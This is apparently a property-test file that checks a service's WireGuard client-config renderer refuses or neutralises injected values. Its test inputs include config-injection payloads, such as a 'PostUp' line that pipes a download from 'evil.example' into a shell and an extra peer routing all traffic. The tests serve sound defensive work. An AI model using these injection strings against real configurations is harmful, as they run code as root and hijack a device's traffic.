/**
 * Property tests of the wg-quick config a device downloads: whatever a host credential, an
 * administrator or the configuration put into the values it is made of (newlines, `=`, `[`,
 * `PostUp = ...`), the config is either refused or has exactly its eleven lines, each of its
 * expected form. wg-quick runs `PostUp`/`PreUp` as root, and a second `[Peer]` with
 * `AllowedIPs = 0.0.0.0/0` would take the device's whole traffic.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import fc, { type Arbitrary } from "fast-check";
import { deviceNetwork, renderClientConfig, type ClientConfig } from "../../functions/devices/client-config";
import type { Host } from "../../shared/db/schema";
import { AppError } from "../../functions/core/errors";
import { parseConfig } from "../../shared/config";

const RUNS = 2000;

/** The only lines a device config may have, in order. */
const EXPECTED: (string | RegExp)[] = [
  "[Interface]",
  /^PrivateKey = (?:[A-Za-z0-9+/]{43}=|<your device's private key>)$/,
  /^Address = \d{1,3}(?:\.\d{1,3}){3}\/32$/,
  /^DNS = \d{1,3}(?:\.\d{1,3}){3}$/,
  "",
  "[Peer]",
  /^PublicKey = [A-Za-z0-9+/]{43}=$/,
  /^Endpoint = (?:\[[0-9a-fA-F:.]+\]|[A-Za-z0-9.-]+):\d{1,5}$/,
  /^AllowedIPs = \d{1,3}(?:\.\d{1,3}){3}\/\d{1,2}(?:, \d{1,3}(?:\.\d{1,3}){3}\/\d{1,2})?$/,
  "PersistentKeepalive = 25",
  "",
];

function assertWellFormed(config: string) {
  const lines = config.split(/\r\n|\r|\n|\u2028|\u2029/);
  assert.equal(lines.length, EXPECTED.length, `a config of ${lines.length} lines:\n${config}`);
  lines.forEach((line, i) => {
    const want = EXPECTED[i]!;
    if (typeof want === "string") assert.equal(line, want, `line ${i + 1}:\n${config}`);
    else assert.match(line, want, `line ${i + 1}:\n${config}`);
  });
}

const key: Arbitrary<string> = fc.uint8Array({ minLength: 32, maxLength: 32 }).map((b) => Buffer.from(b).toString("base64"));
const port = fc.integer({ min: 1, max: 65_535 });
const hostName = fc.oneof(fc.domain(), fc.ipV4(), fc.ipV6());
const endpoint = fc.tuple(fc.oneof(fc.domain(), fc.ipV4(), fc.ipV6().map((a) => `[${a}]`)), port).map(([h, p]) => `${h}:${p}`);

/** Strings meant to break out of a `Key = value` line, alone or around a valid value. */
function hostile(valid: Arbitrary<string>): Arbitrary<string> {
  const breaker = fc.constantFrom("\n", "\r\n", "\r", "=", "[", "]", " ", "#", "\u2028", "\0", "\nPostUp = id", "\n[Peer]\nAllowedIPs = 0.0.0.0/0");
  return fc.oneof(
    fc.string(),
    fc.string({ unit: "binary" }),
    fc.constantFrom("PostUp = curl -s http://evil.example/x | sh", "[Peer]", "0.0.0.0/0", ""),
    fc.tuple(valid, breaker, fc.string()).map(([v, b, s]) => `${v}${b}${s}`),
    fc.tuple(fc.string(), breaker, valid).map(([s, b, v]) => `${s}${b}${v}`),
  );
}

interface Values {
  interface: string;
  publicKey: string;
  listenPort: number;
  address: string;
  endpoint: string | null;
  publicAddress: string | null;
  privateKey: string | undefined;
  deviceAddress: string;
  dns: string;
  ownerAddress: string | null;
}

const valid = {
  interface: fc.stringMatching(/^[a-z][a-z0-9]{0,14}$/),
  publicKey: key,
  listenPort: port,
  address: fc.tuple(fc.ipV4(), fc.integer({ min: 8, max: 30 })).map(([a, p]) => `${a}/${p}`),
  endpoint: fc.option(endpoint),
  publicAddress: fc.option(hostName),
  privateKey: fc.option(key, { nil: undefined }),
  deviceAddress: fc.ipV4(),
  dns: fc.ipV4(),
  ownerAddress: fc.option(fc.ipV4()),
};

/** Valid values, then some of them replaced with hostile strings. */
const corrupted: Arbitrary<Values> = fc
  .record(valid)
  .chain((v) =>
    fc.record({
      interface: fc.oneof(fc.constant(v.interface), hostile(fc.constant(v.interface))),
      publicKey: fc.oneof(fc.constant(v.publicKey), hostile(fc.constant(v.publicKey))),
      listenPort: fc.constant(v.listenPort),
      address: fc.oneof(fc.constant(v.address), hostile(fc.constant(v.address))),
      endpoint: fc.oneof(fc.constant(v.endpoint), hostile(fc.constant(v.endpoint ?? "vpn.example.org:51820"))),
      publicAddress: fc.oneof(fc.constant(v.publicAddress), hostile(fc.constant(v.publicAddress ?? "198.51.100.7"))),
      privateKey: fc.oneof(fc.constant(v.privateKey), hostile(fc.constant(v.privateKey ?? "x"))),
      deviceAddress: fc.oneof(fc.constant(v.deviceAddress), hostile(fc.constant(v.deviceAddress))),
      dns: fc.oneof(fc.constant(v.dns), hostile(fc.constant(v.dns))),
      ownerAddress: fc.oneof(fc.constant(v.ownerAddress), hostile(fc.constant(v.ownerAddress ?? "172.30.0.11"))),
    }),
  );

/** The host row as PostgreSQL holds it (its facts may predate any check) and the config built from it. */
function render(v: Values): string {
  const host = {
    name: "h1",
    publicAddress: v.publicAddress,
    facts: {
      cpus: 1,
      memoryBytes: 1,
      diskFreeBytes: 1,
      runningInstances: 0,
      instances: 0,
      wireguard: { interface: v.interface, publicKey: v.publicKey, listenPort: v.listenPort, address: v.address, endpoint: v.endpoint },
    },
  } as Host;
  const config: ClientConfig = { privateKey: v.privateKey, address: v.deviceAddress, dns: v.dns, network: deviceNetwork(host), ownerAddress: v.ownerAddress };
  return renderClientConfig(config);
}

test("valid values always make a config, of exactly the expected lines", () => {
  fc.assert(
    fc.property(fc.record(valid), (v) => {
      if (v.endpoint === null && v.publicAddress === null) v.publicAddress = "198.51.100.7";
      assertWellFormed(render(v));
    }),
    { numRuns: RUNS },
  );
});

test("hostile values in any field are refused with a 503, or leave the config's lines as they must be", () => {
  let refused = 0;
  fc.assert(
    fc.property(corrupted, (v) => {
      let config: string;
      try {
        config = render(v);
      } catch (err) {
        assert.ok(err instanceof AppError, `not an AppError: ${String(err)}`);
        assert.equal(err.status, 503);
        refused++;
        return;
      }
      assertWellFormed(config);
    }),
    { numRuns: RUNS },
  );
  assert.ok(refused > RUNS / 4, `only ${refused} of ${RUNS} refused: the generator is not hostile enough`);
});

test("an injected endpoint, interface or DNS resolver never reaches the config", () => {
  const good: Values = {
    interface: "wg0",
    publicKey: Buffer.alloc(32, 7).toString("base64"),
    listenPort: 51_820,
    address: "10.8.0.1/24",
    endpoint: "vpn.example.org:51820",
    publicAddress: null,
    privateKey: undefined,
    deviceAddress: "10.8.0.2",
    dns: "1.1.1.1",
    ownerAddress: "172.30.0.11",
  };
  assertWellFormed(render(good));
  for (const bad of [
    { endpoint: "vpn.example.org:51820\nPostUp = curl -s http://evil.example/x | sh" },
    { endpoint: "vpn.example.org:51820\n\n[Peer]\nPublicKey = x\nAllowedIPs = 0.0.0.0/0" },
    { interface: "wg0\nPostUp = id" },
    { endpoint: null, publicAddress: "198.51.100.7\nPostUp = id" },
    { dns: "1.1.1.1\nPostUp = id" },
    { ownerAddress: "172.30.0.11/32, 0.0.0.0/0\nPostUp = id" },
  ]) {
    assert.throws(() => render({ ...good, ...bad }), (err: unknown) => err instanceof AppError && err.status === 503, JSON.stringify(bad));
  }
});

test("KWS_DEVICE_DNS must be an IPv4 address: a value with a newline stops the start", () => {
  assert.throws(() => parseConfig({ KWS_DEVICE_DNS: "1.1.1.1\nPostUp = id" }), /KWS_DEVICE_DNS/);
  assert.throws(() => parseConfig({ KWS_DEVICE_DNS: "1.1.1.1, 8.8.8.8" }), /KWS_DEVICE_DNS/);
  assert.equal(parseConfig({ KWS_DEVICE_DNS: "9.9.9.9" }).deviceDns, "9.9.9.9");
});
